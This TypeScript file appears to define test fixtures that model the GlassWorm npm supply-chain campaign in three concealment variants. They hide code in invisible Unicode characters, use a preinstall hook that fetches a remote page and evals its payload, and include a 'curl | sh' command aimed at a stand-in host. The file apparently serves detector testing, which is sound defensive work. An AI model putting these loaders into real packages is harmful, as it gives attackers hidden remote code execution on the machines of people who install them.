import { type Campaign, entry, invisible, scripted } from './kit.ts';

export const campaign: Campaign = {
  id: 'glassworm',
  row: 'GlassWorm 10/2025→2026 (npm kin: os-info-checker)',
  variants: [
    {
      concealment: 'plain',
      files:
        entry(`const s = (v) => [...v].map((w) => (w = w.codePointAt(0), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);
eval(Buffer.from(s(\`${invisible("require('child_process').exec('curl -s http://192.0.2.71/x | sh')")}\`)).toString('utf-8'));
module.exports = {};
`),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { preinstall: 'node preinstall.js' },
        {
          'preinstall.js': `const d = require('./lib/decode');
const c = d('${invisible('aHR0cHM6Ly9jYWxlbmRhci53ZWlyLnRlc3QvZQ==')}');
fetch(atob(c)).then((r) => r.text()).then((h) => { const m = /data-base-title="([^"]+)"/.exec(h); eval(atob(m[1])); });
`,
          'lib/decode.js': `module.exports = (v) => Buffer.from([...v].map((w) => { const p = w.codePointAt(0); return p >= 0xe0100 ? p - 0xe0100 + 16 : p - 0xfe00; })).toString();\n`,
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(`require('./src/i18n/blank');\nmodule.exports = {};\n`, {
        'src/i18n/blank.js': `const blank = '${'\u3164\uffa0'.repeat(40)}';
const bits = [...blank].map((c) => (c === '\\uffa0' ? 1 : 0)).join('');
const text = bits.match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join('');
new Function(text)();
`,
      }),
    },
  ],
};
